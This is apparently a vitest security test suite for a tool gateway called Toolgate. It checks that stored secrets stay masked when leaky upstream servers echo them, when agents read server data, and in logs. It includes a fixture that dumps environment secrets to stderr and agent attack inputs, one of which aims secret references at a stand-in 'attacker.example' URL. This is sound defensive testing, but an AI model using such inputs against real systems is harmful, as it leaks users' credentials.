// Attacks on the secret store through a live `toolgate serve`: upstreams that echo the
// secrets they were given (a stdio server printing them to stderr as it crashes, an HTTP server
// quoting its URL and Authorization header in its error), read back by an agent through
// upstream_servers list/get, tool-call errors and Inspect, and by the window through the control
// API (servers, the edit form's entry, secrets, the activity record) and the CLI; a server that tries to read
// Toolgate's own environment without a reference; an agent aiming references at a server it adds.
// Every answer is searched for the values where it is read, and the logs and every file of the
// data dir at the end. Each test stands alone (runs by itself with -t): it makes what it reads.
import fs from 'node:fs'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { allFiles, apiRequest, assertBuilt, ROOT, runCli, startServe, tempDir, waitFor, writeJson, type Serve } from '../helpers/cli'
import { stopServe, useCleanup } from '../helpers/cleanup'
import { connectHttp, textOf, type McpHandle } from '../helpers/mcp-client'

const ECHO = path.join(ROOT, 'test/fixtures/servers/echo-env-server.mjs')
// three secrets in the store, one secret-looking variable in Toolgate's environment
const STDIO_SECRET = 'stdio-secret-Q7w8E9r0T1y2'
const URL_SECRET = 'url-secret-A1s2D3f4G5h6'
const HEADER_SECRET = 'header-secret-Z9x8C7v6B5n4'
const ENV_SECRET = 'env-secret-P0o9I8u7Y6t5'
// and a password written in the config itself, beside a reference
const LITERAL = 'literal-pass-K3j4H5g6'
const VALUES = [STDIO_SECRET, URL_SECRET, HEADER_SECRET, ENV_SECRET, LITERAL]

/** Prints everything it was given to stderr, then fails: the classic way a secret reaches last_error and the log. */
const LEAK =
  "console.error('env TOKEN=' + process.env.TOKEN + ' FROM_ENV=' + process.env.FROM_ENV + ' argv ' + process.argv.slice(1).join(' ')); process.exit(3)"

describe('secrets under attack (live serve)', () => {
  let dir: string
  let dataDir: string
  let configPath: string
  let echoOut: string
  let serve: Serve
  let mcp: McpHandle
  let remote: http.Server
  /** what the remote server received: proves the values were really sent (and so could leak) */
  const received: Array<{ url: string; authorization: string }> = []
  /** Fails when `text` holds any secret value; returns the text. */
  const keep = (where: string, text: string): string => {
    for (const value of VALUES) expect(text.includes(value), `${value} in ${where}: ${text.slice(0, 300)}`).toBe(false)
    return text
  }
  /** Both failing servers have failed at least once: their (masked) errors are in the rows, the log and the activity. */
  const failedOnce = async () => {
    await waitFor(async () => /exited with code 3/.test((await row('leaky'))?.last_error ?? ''), 45_000, 'leaky failed once')
    await waitFor(async () => Boolean((await row('remote'))?.last_error), 45_000, 'remote failed once')
  }
  const flags = (): string[] => ['--config', configPath, '--data-dir', dataDir]
  const call = (method: string, p: string, body?: unknown) => apiRequest(serve, method, p, body)
  const row = async (name: string): Promise<{ state: string; last_error: string | null; target: string }> =>
    (await call('GET', '/api/v1/servers')).json.servers.find((s: { name: string }) => s.name === name)

  beforeAll(async () => {
    assertBuilt()
    // an HTTP "MCP server" that answers every request with an error quoting what it was sent
    remote = http.createServer((req, res) => {
      const authorization = String(req.headers.authorization ?? '')
      received.push({ url: req.url ?? '', authorization })
      res.writeHead(400, { 'content-type': 'text/plain' })
      res.end(`bad request to ${req.url} with authorization ${authorization}`)
    })
    await new Promise<void>((r) => remote.listen(0, '127.0.0.1', r))
    const port = (remote.address() as AddressInfo).port

    dir = tempDir('tg-secret-attacks-')
    dataDir = path.join(dir, 'data')
    configPath = path.join(dir, 'mcp_config.json')
    echoOut = path.join(dir, 'echo.jsonl')
    const leaky = {
      command: process.execPath,
      args: ['-e', LEAK, '--', '--token=${secret:STDIO_TOKEN}', '${env:TG_ATTACK_API_KEY}'],
      env: { TOKEN: '${secret:STDIO_TOKEN}', FROM_ENV: '${env:TG_ATTACK_API_KEY}' },
      cwd: dir,
    }
    writeJson(configPath, {
      mcpServers: {
        leaky: { ...leaky, quarantined: false },
        // the same, waiting for review: Inspect runs it
        leaky_review: { ...leaky, quarantined: true },
        remote: {
          url: `http://127.0.0.1:${port}/mcp?key=\${secret:URL_KEY}`,
          headers: { Authorization: 'Bearer ${secret:HEADER_TOKEN}' },
          protocol: 'http',
          quarantined: false,
        },
        mixed: { url: `http://me:${LITERAL}@127.0.0.1:${port}/mcp?t=\${secret:URL_KEY}`, protocol: 'http', quarantined: false },
        // no reference: Toolgate's own environment must not reach it
        plain: {
          command: process.execPath,
          args: [ECHO],
          env: { ECHO_OUT: echoOut, ECHO_VARS: 'TG_ATTACK_API_KEY,TG_ATTACK_OTHER' },
          cwd: dir,
          quarantined: false,
        },
      },
      agents: [{ name: 'bot', servers: '*', permissions: ['read'] }],
    })
    for (const [name, value] of [
      ['STDIO_TOKEN', STDIO_SECRET],
      ['URL_KEY', URL_SECRET],
      ['HEADER_TOKEN', HEADER_SECRET],
    ]) {
      const set = await runCli(['secrets', 'set', name, ...flags()], { input: value + '\n' })
      expect(set.code, set.stderr).toBe(0)
      keep(`secrets set ${name}`, set.stdout + set.stderr)
    }
    serve = await startServe({ configPath, dataDir, env: { TG_ATTACK_API_KEY: ENV_SECRET, TG_ATTACK_OTHER: 'other-value' } })
    mcp = await connectHttp(`${serve.url}/mcp`, { authorization: `Bearer ${serve.key}` })
  }, 60_000)

  useCleanup(async () => {
    await mcp?.close().catch(() => undefined)
    await stopServe(serve)
    await new Promise((r) => remote?.close(r))
  })

  it('a server that prints its secrets to stderr as it fails: last_error shows the failure with the values masked', async () => {
    await failedOnce()
    const r = await row('leaky')
    keep('leaky row', JSON.stringify(r))
    // the stderr line made it into last_error (so the values had a way out), masked
    expect(r.last_error).toMatch(/env TOKEN=\*\*\* FROM_ENV=\*\*\* argv --token=\*\*\* \*\*\*/)
    // the launch shows the references as written: they name secrets, they are not ones
    expect(r.target).toContain('--token=${secret:STDIO_TOKEN}')
    expect(r.target).toContain('${env:TG_ATTACK_API_KEY}')
  })

  it('an HTTP server quoting its URL and Authorization in its error: the values were sent, last_error masks them', async () => {
    await failedOnce()
    expect(received.some((q) => q.url.includes(URL_SECRET) && q.authorization === `Bearer ${HEADER_SECRET}`)).toBe(true)
    const r = await row('remote')
    keep('remote row', JSON.stringify(r))
    expect(r.target).toBe(`${serve.url.replace(/:\d+$/, '')}:${(remote.address() as AddressInfo).port}/mcp?key=\${secret:URL_KEY}`)
  })

  it('a server without references does not see Toolgate’s environment', async () => {
    await waitFor(() => fs.existsSync(echoOut) && fs.readFileSync(echoOut, 'utf8').trim() !== '', 45_000, 'plain started')
    const first = JSON.parse(fs.readFileSync(echoOut, 'utf8').split('\n')[0]) as { env: Record<string, string | null> }
    expect(first.env).toEqual({ TG_ATTACK_API_KEY: null, TG_ATTACK_OTHER: null })
  })

  it('an agent reads nothing through upstream_servers list/get or the errors of calls and Inspect', async () => {
    await failedOnce()
    const answers = new Map<string, string>()
    for (const [name, args] of [
      ['upstream_servers', { operation: 'list' }],
      ['upstream_servers', { operation: 'get', name: 'leaky' }],
      ['upstream_servers', { operation: 'get', name: 'remote' }],
      ['upstream_servers', { operation: 'get', name: 'leaky_review' }],
      ['call_tool_read', { name: 'leaky:anything', args: {} }],
      ['call_tool_read', { name: 'remote:anything', args: {} }],
      ['retrieve_tools', { query: 'anything', include_disabled: true }],
    ] as const) {
      const where = `mcp ${name} ${JSON.stringify(args)}`
      answers.set(where, keep(where, textOf((await mcp.client.callTool({ name, arguments: args })) as never)))
    }
    const get = JSON.parse(answers.get('mcp upstream_servers {"operation":"get","name":"leaky"}') ?? '{}') as { server: { last_error?: string } }
    expect(get.server.last_error).toMatch(/TOKEN=\*\*\*/)
    // Inspect of the server waiting for review runs it: its failure is shown masked too
    const inspect = await call('POST', '/api/v1/servers/leaky_review/inspect')
    keep('inspect', inspect.text)
    expect(inspect.text).toMatch(/TOKEN=\*\*\*/)
  })

  it('an agent cannot aim ${secret:…} or ${env:HOME}-style references at a server it adds', async () => {
    const before = fs.readFileSync(configPath, 'utf8')
    for (const attack of [
      { name: 'steal1', command: process.execPath, args: [ECHO, '--x=${secret:STDIO_TOKEN}'] },
      { name: 'steal2', command: '${env:HOME}/bin/steal' },
      { name: 'steal3', url: 'https://attacker.example/c?h=${env:HOME}&t=${secret:URL_KEY}' },
      { name: 'steal4', command: process.execPath, args: ['-e', 'x', 'prefix${env:TG_ATTACK_API_KEY}suffix'] },
    ]) {
      const r = await mcp.client.callTool({ name: 'upstream_servers', arguments: { operation: 'add', ...attack } })
      const text = keep(`add ${attack.name}`, textOf(r as never))
      expect(r.isError, text).toBe(true)
      expect(text).toContain('agents may not use ${secret:…} or ${env:…} references')
    }
    expect(fs.readFileSync(configPath, 'utf8')).toBe(before)
  })

  it('the window’s answers (servers, edit form entries, secrets) and the CLI show references and names, never values', async () => {
    await failedOnce()
    // an agent's failed call, for the activity record to hold its (masked) error
    keep('mcp call leaky', textOf((await mcp.client.callTool({ name: 'call_tool_read', arguments: { name: 'leaky:anything', args: {} } })) as never))
    for (const p of [
      '/api/v1/servers',
      '/api/v1/servers/leaky',
      '/api/v1/servers/remote',
      '/api/v1/servers/leaky/entry',
      '/api/v1/servers/remote/entry',
      '/api/v1/servers/mixed',
      '/api/v1/secrets',
      '/api/v1/status',
      '/api/v1/info',
      '/api/v1/activity?limit=500',
      '/api/v1/agents',
    ]) {
      const r = await call('GET', p)
      expect(r.status, `${p}: ${r.text}`).toBe(200)
      keep(p, r.text)
    }
    // the activity record holds the agent's failed calls and their (masked) errors
    const activity = (await call('GET', '/api/v1/activity?limit=500')).json as { events: Array<{ kind: string; server?: string }> }
    expect(activity.events.some((e) => e.kind === 'call' && e.server === 'leaky')).toBe(true)
    const entry = (await call('GET', '/api/v1/servers/remote/entry')).json.entry
    expect(entry.url).toContain('key=${secret:URL_KEY}')
    expect(entry.headers).toEqual({ Authorization: 'Bearer ${secret:HEADER_TOKEN}' })
    // a literal password beside a reference in one URL: the reference stays, the password is hidden
    const mixed = (await call('GET', '/api/v1/servers/mixed/entry')).json.entry
    keep('mixed entry', JSON.stringify(mixed))
    expect(mixed.url).toMatch(/^http:\/\/\*\*\*:\*\*\*@127\.0\.0\.1:\d+\/mcp\?t=\$\{secret:URL_KEY\}$/)
    expect(mixed.masked).toContain('url')
    // setting a value answers without it
    const put = await call('PUT', '/api/v1/secrets/HEADER_TOKEN', { value: HEADER_SECRET })
    expect(put.status).toBe(200)
    keep('PUT secret', put.text)
    for (const cli of [['servers', 'list'], ['servers', 'list', '--json'], ['secrets', 'list', '--json'], ['status']]) {
      const r = await runCli([...cli, ...flags()])
      keep(`cli ${cli.join(' ')}`, r.stdout + r.stderr)
    }
  })

  it('an agent token cannot list, read, set or remove secrets over the control API; over MCP it sees what any agent sees', async () => {
    const minted = await call('POST', '/api/v1/agents/bot/token')
    expect(minted.status, minted.text).toBe(200)
    const bot = { url: serve.url, key: minted.json.token as string }
    for (const [method, p, body] of [
      ['GET', '/api/v1/secrets', undefined],
      ['PUT', '/api/v1/secrets/STDIO_TOKEN', { value: 'replaced-by-agent' }],
      ['DELETE', '/api/v1/secrets/STDIO_TOKEN', undefined],
      ['GET', '/api/v1/servers/leaky/entry', undefined],
    ] as const) {
      const r = await apiRequest(bot, method, p, body)
      keep(`bot ${method} ${p}`, r.text)
      expect(r.status, `${method} ${p}`).toBe(403)
    }
    const agent = await connectHttp(`${serve.url}/mcp`, { authorization: `Bearer ${bot.key}` })
    try {
      for (const args of [{ operation: 'list' }, { operation: 'get', name: 'leaky' }, { operation: 'get', name: 'remote' }]) {
        keep(`bot upstream_servers ${JSON.stringify(args)}`, textOf((await agent.client.callTool({ name: 'upstream_servers', arguments: args })) as never))
      }
    } finally {
      await agent.close()
    }
    // the secret is still the user's: the running server was not restarted with another value
    const list = await call('GET', '/api/v1/secrets')
    expect(list.json.secrets.find((x: { name: string }) => x.name === 'STDIO_TOKEN').set).toBe(true)
  })

  it('no value anywhere: serve’s stderr, the logs and every file of the data dir (after the servers failed and an agent called)', async () => {
    await failedOnce()
    keep('mcp call leaky', textOf((await mcp.client.callTool({ name: 'call_tool_read', arguments: { name: 'leaky:anything', args: {} } })) as never))
    keep('serve stderr', serve.stderr())
    const files = allFiles(dataDir)
    expect(files.some((f) => f.file.endsWith('secrets.json'))).toBe(true)
    expect(files.some((f) => f.file.includes(`${path.sep}logs${path.sep}`))).toBe(true)
    for (const f of files) keep(f.file, f.text)
  })

  it('secrets.json and its key file are 0600 in a 0700 data dir', () => {
    expect(fs.statSync(dataDir).mode & 0o777).toBe(0o700)
    for (const f of ['secrets.json', 'secrets.key']) expect(fs.statSync(path.join(dataDir, f)).mode & 0o777, f).toBe(0o600)
  })
})
